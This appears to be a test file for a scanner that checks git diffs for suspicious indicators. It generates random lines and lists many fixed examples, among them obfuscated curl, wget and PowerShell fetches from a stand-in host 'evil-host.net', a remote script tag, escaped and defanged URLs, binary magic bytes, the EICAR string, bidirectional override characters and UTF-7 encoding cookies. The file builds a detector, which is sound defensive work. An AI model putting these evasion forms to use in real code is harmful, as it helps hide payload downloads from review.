/**
 * Nothing that the scanner would find may be passed by the shell alone: the expressions, in the real grep, against the
 * real readers, on random lines built from the pieces that indicators are made of.
 */
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isBinary } from '../../../../src/diff/content/content-type.ts';
import { pointerOf } from '../../../../src/diff/content/lfs-pointer.ts';
import { createExtractor } from '../../../../src/extract/extract.ts';
import { BYTES, KEPT, SUSPECT } from '../../../../src/setup/hook/prefilter.ts';

const C = { ...process.env, LC_ALL: 'C' };

/** The indexes of the lines (byte strings without LF) in which the expression finds something. */
function flagged(expression: string, marker: '>' | ' ', lines: readonly string[]): Set<number> {
  const input = Buffer.from(lines.map((line) => `${marker}${line}\n`).join(''), 'latin1');
  const seen = spawnSync('tr', [BYTES.from, BYTES.to], { input, env: C, maxBuffer: 1 << 28 }).stdout;
  const found = spawnSync('grep', ['-anE', expression], { input: seen, env: C, maxBuffer: 1 << 28 });
  expect(found.stderr.toString()).toBe('');
  const rows = found.stdout
    .toString('latin1')
    .split('\n')
    .filter((row) => row !== '');
  return new Set(rows.map((row) => Number.parseInt(row, 10) - 1));
}

async function scannerFinds(line: string): Promise<boolean> {
  const extractor = createExtractor({ checks: ['ips', 'urls', 'binaries'] });
  const file = { path: 'a.txt', pathBytes: null, commit: null, oid: null };
  const chunk = { line: 1, lines: 1, text: `${line}\n`, marked: false };
  extractor.text(file, { ...chunk, startsMidLine: false, endsMidLine: false });
  return (await extractor.finish()).length > 0;
}

const latin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

const PIECES = [
  'http',
  'https',
  'HTTP',
  'hxxp',
  'hXXps',
  'ftp',
  'fxp',
  'ws',
  'wss',
  'git+https',
  '-ihttps',
  'ip6',
  '"//',
  '(//',
  '=//',
  '"/\\',
  'curl ',
  'curl$IFS',
  'wget>',
  '2>&1 ',
  'wget ',
  'iwr ',
  'IRM ',
  'Invoke-WebRequest ',
  'curl.exe ',
  'curl a ',
  'ev""il',
  "$'",
  '-s ',
  '-o x.sh ',
  '\\u003A',
  '\\u002f',
  '\\x3a',
  '\\x2F',
  '\\u0026',
  '\\u{3A}',
  '\\u{002f}',
  '\\3a ',
  '\\2F',
  '\\072',
  '\\57',
  '\\x68',
  '\\x70',
  '\\u0073',
  '\\u{70}',
  '\\x{3a}',
  '\\x{70}',
  '\\160',
  'htt',
  'tp',
  's',
  '8.8.8.8-100',
  '\\_',
  '✪',
  '｜',
  '==',
  '2.5.4.3',
  'www',
  'WWW',
  'x',
  'std',
  'v',
  'n',
  ':',
  '::',
  '/',
  '//',
  '://',
  '\\/',
  '\\\\/',
  '[:]',
  '(:)',
  '[:',
  ':]',
  '[',
  ']',
  '(',
  ')',
  '[://]',
  '[.]',
  '(.)',
  '[dot]',
  '(DOT)',
  '{.}',
  '.',
  '..',
  '-',
  '_',
  ' ',
  '\t',
  '\r',
  ',',
  ';',
  '"',
  "'",
  '`',
  '<',
  '>',
  '=',
  '&amp;',
  '%',
  '#',
  '@',
  '\\n',
  '\\t',
  '\\f',
  '\\',
  '+',
  '$',
  '*',
  '8.8.8.8',
  '8',
  '203',
  '1',
  '001',
  '256',
  '0x7f',
  '2001',
  '2606:4700:4700::1111',
  '2a00',
  '4700',
  'ffff',
  '64:ff9b',
  'db8',
  'abcd',
  'f',
  '0',
  '::ffff:',
  '1:2:3:4:5:6:7:8',
  'evil.net',
  'evil',
  'net',
  'com',
  'github.com',
  'google.co.uk',
  'é',
  '中',
  '文',
  '。',
  '．',
  '\u200b',
  '\ufeff',
  'ß',
] as const;

const line = fc
  .array(
    fc.oneof(
      { weight: 9, arbitrary: fc.constantFrom(...PIECES) },
      { weight: 1, arbitrary: fc.string({ maxLength: 3 }) },
    ),
    { maxLength: 14 },
  )
  .map((pieces) => latin1(pieces.join('').replaceAll('\n', '')));

describe('the expressions against the readers', () => {
  test('a line in which the scanner finds anything is never passed', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(line, { minLength: 300, maxLength: 300 }), async (lines) => {
        const kept = flagged(KEPT, '>', lines);
        const suspect = flagged(SUSPECT, '>', lines);
        for (const [index, text] of lines.entries()) {
          expect(kept.has(index)).toBe(true);
          if (!suspect.has(index) && (await scannerFinds(text)))
            throw new Error(`passed: ${JSON.stringify(text)}`);
        }
      }),
      { numRuns: 25 },
    );
  });

  test.each([
    'http://evil.net/x',
    'x="http:\\/\\/evil.net\\/x"',
    'hxxps[:]//evil[.]net/x',
    'www.evil.net',
    '8.8.8.8',
    '8[.]8[.]8[.]8',
    'a 2606:4700:4700::1111 b',
    '2606:4700:4700:0:0:0:0:1111',
    '"\\n2606:4700:4700::1111"',
    '中8.8.8.8',
    'http:\\\\evil-host.net\\a',
    'https:/evil-host.net',
    'http\\://evil-host.net',
    'hhttps:\\/evil-host.net',
    '"http\\u003A\\u002F\\u002Fevil-host.net"',
    '"http\\x3a\\x2f\\x2fevil-host.net"',
    '"\\x68ttp://evil-host.net"',
    '"htt\\160://evil-host.net"',
    '"ht\\x74p://evil-host.net"',
    '"\\u{000077}ss://evil-host.net"',
    '"http\\u{3a}//evil-host.net"',
    '"http\\072\\057\\057evil-host.net"',
    'url(\\2f\\2f evil-host.net)',
    '<script src="//evil-host.net/x.js">',
    "<script src='//evil-host.net/x.js'>",
    'url(//evil-host.net/x)',
    'src=//evil-host.net/x',
    '`//evil-host.net/x`',
    '"\\/\\/evil-host.net"',
    'curl evil-host.net/x',
    'x=$(curl -s evil-host.net)',
    'curl>x evil-host.net',
    'curl<x evil-host.net',
    'curl$IFS-s$IFS$9evil-host.net',
    '\t+curl evil-host.net',
    '"a\\ncurl evil-host.net"',
    '["curl", "evil-host.net/x"]',
    'wget 45.9.148.3/x',
    'iwr evil-host.net',
    'curl ev""il-host.net',
    'iwr “evil-host.net”',
    'curl a evil-host.net/x',
    'Process.Start("curl", "-s evil-host.net")',
    '45.9.148.3-25',
    'IRM(evil-host.net)',
    'invoke-restmethod "evil-host.net"',
    'v=spf1 ip6:2001:4860:4000::/36',
    '8[dot]8[dot]8[dot]8',
    '-h8.8.8.8',
    '[url]www.evil-host.net[/url]',
  ])('the scanner finds something in %s, so the shell does', async (text) => {
    expect(await scannerFinds(latin1(text))).toBe(true);
    expect(flagged(SUSPECT, '>', [latin1(text)]).size).toBe(1);
  });

  test('ordinary code is passed', () => {
    const lines = [
      'import { readFile } from "node:fs";',
      'std::vector<int> values; Foo::bar(Baz::quux);',
      'const time = "12:34:56"; // 2026-11-21T12:00:00Z',
      '  // naïve café, 中文注释, Привет',
      'version = "1.84.1"',
      'a[0] = b.c.d(e.f); // see #12',
      'mac = aa:bb:cc:dd:ee',
      '',
      '\tif (x) { return y ?? z; }',
      'print("steps:\\n"); C:\\Windows\\x; confirm(firmware);',
      'const pattern = /^a(b|c)$/; // see libcurl',
      'a = b // c; d = "a/b"',
    ].map(latin1);
    expect(flagged(SUSPECT, '>', lines)).toEqual(new Set());
    expect(flagged(KEPT, ' ', lines)).toEqual(new Set());
  });
});

describe('binaries that attributes call text', () => {
  const MAGIC = [
    '\x7fELF\x02',
    'MZ\x90',
    '\xfe\xed\xfa\xce',
    '\xcf\xfa\xed\xfe',
    '\xca\xfe\xba\xbe',
    '\xca\xfe\xd0\x0d',
    'BC\xc0\xde',
    '\x1bLua',
    'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR',
    'PK\x03\x04',
    'PK\x05\x06',
    '\x1f\x8b\x08',
    '\x1f\x9d',
    'BZh91AY&SY',
    '\xfd7zXZ',
    '7z\xbc\xaf\x27\x1c',
    'Rar!\x1a\x07',
    '\x28\xb5\x2f\xfd',
    '\x22\xb5\x2f\xfd',
    '\x50\x2a\x4d\x18',
    '\x5f\x2a\x4d\x18',
    '\x04\x22\x4d\x18',
    '\x02\x21\x4c\x18',
    'LZIP\x01',
    '!<arch>',
    '!<thin>',
    `070701${'0'.repeat(104)}`,
    `070707${'0'.repeat(70)}`,
    '\xed\xab\xee\xdb',
  ];

  test('every beginning that the scanner knows is seen, added or unchanged', () => {
    const marked = MAGIC.filter((magic) => !isBinary(`${magic}\n and more\n`));
    expect(marked).toEqual(['MZ\x90']);
    for (const expression of [SUSPECT, KEPT]) {
      const missed = MAGIC.filter(
        (_, index) => !flagged(expression, expression === KEPT ? ' ' : '>', MAGIC).has(index),
      );
      expect(missed).toEqual([]);
    }
  });

  test('what the scanner calls a binary by its first line is never passed', () => {
    const bytes = fc
      .uint8Array({ minLength: 1, maxLength: 12 })
      .map((array) => Buffer.from(array).toString('latin1'));
    const head = fc
      .tuple(fc.constantFrom(...MAGIC, '', '', ''), bytes)
      .map(([magic, tail]) => (magic + tail).replaceAll('\n', ''));
    fc.assert(
      fc.property(fc.array(head, { minLength: 200, maxLength: 200 }), (heads) => {
        const added = flagged(SUSPECT, '>', heads);
        const unchanged = flagged(KEPT, ' ', heads);
        for (const [index, text] of heads.entries()) {
          if (isBinary(`${text}\n`))
            expect([text, added.has(index), unchanged.has(index)]).toEqual([text, true, true]);
        }
      }),
      { numRuns: 30 },
    );
  });

  test('a Git LFS pointer is seen, whichever of its lines changed', () => {
    const sha = randomBytes(32).toString('hex');
    const lines = ['version https://git-lfs.github.com/spec/v1', `oid sha256:${sha}`, 'size 12345'];
    expect(pointerOf(`${lines.join('\n')}\n`)).not.toBeNull();
    expect(flagged(KEPT, ' ', lines)).toEqual(new Set([1]));
    expect(flagged(SUSPECT, '>', lines)).toEqual(new Set([0, 1]));
  });
});

describe('what is in disguise', () => {
  test('signs that turn the direction of writing are seen', () => {
    const turning = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map((point) =>
      latin1(`if (a) { /*${String.fromCodePoint(point)} } */`),
    );
    expect(flagged(SUSPECT, '>', turning).size).toBe(turning.length);
    const plain = ['“quoted” – ‘text’ — with dashes', '中文 日本語 한국어', 'see ~/.config and ~ tilde'].map(
      latin1,
    );
    expect(flagged(SUSPECT, '>', plain)).toEqual(new Set());
  });

  test('names of media and archives, names that turn, and executable files are seen by their headers', () => {
    const headers = [
      'diff --git a/font.woff2 b/font.woff2',
      'diff --git a/A.PNG b/A.PNG',
      'diff --git "a/\\303\\244.jpg" "b/\\303\\244.jpg"',
      'diff --git "a/\\342\\200\\256gpj.sh" "b/\\342\\200\\256gpj.sh"',
      'new file mode 100755',
      'new mode 100755',
      'index 0123456..89abcde 100755',
    ];
    const grep = (line: string): number | null =>
      spawnSync('grep', ['-qaE', KEPT], { input: `${line}\n`, env: C }).status;
    expect(headers.filter((line) => grep(line) !== 0)).toEqual([]);
    const usual = [
      'diff --git a/src/a.ts b/src/a.ts',
      'new file mode 100644',
      'index 0123456..89abcde 100644',
    ];
    expect(usual.filter((line) => grep(line) === 0)).toEqual([]);
  });
});

describe('source code that says how it is encoded', () => {
  test.each([
    '# -*- coding: utf-7 -*-',
    '  # vim: set fileencoding=UTF7 :',
    '#coding:u7',
    '# coding: raw_unicode_escape',
  ])('%s is seen, added or not', (cookie) => {
    expect(flagged(KEPT, ' ', [cookie])).toEqual(new Set([0]));
    expect(flagged(SUSPECT, '>', [cookie])).toEqual(new Set([0]));
  });

  test('another encoding is nothing to look at', () => {
    const usual = ['# -*- coding: utf-8 -*-', '# coding: latin-1'];
    expect(flagged(KEPT, ' ', usual)).toEqual(new Set());
    expect(flagged(SUSPECT, '>', usual)).toEqual(new Set());
  });
});
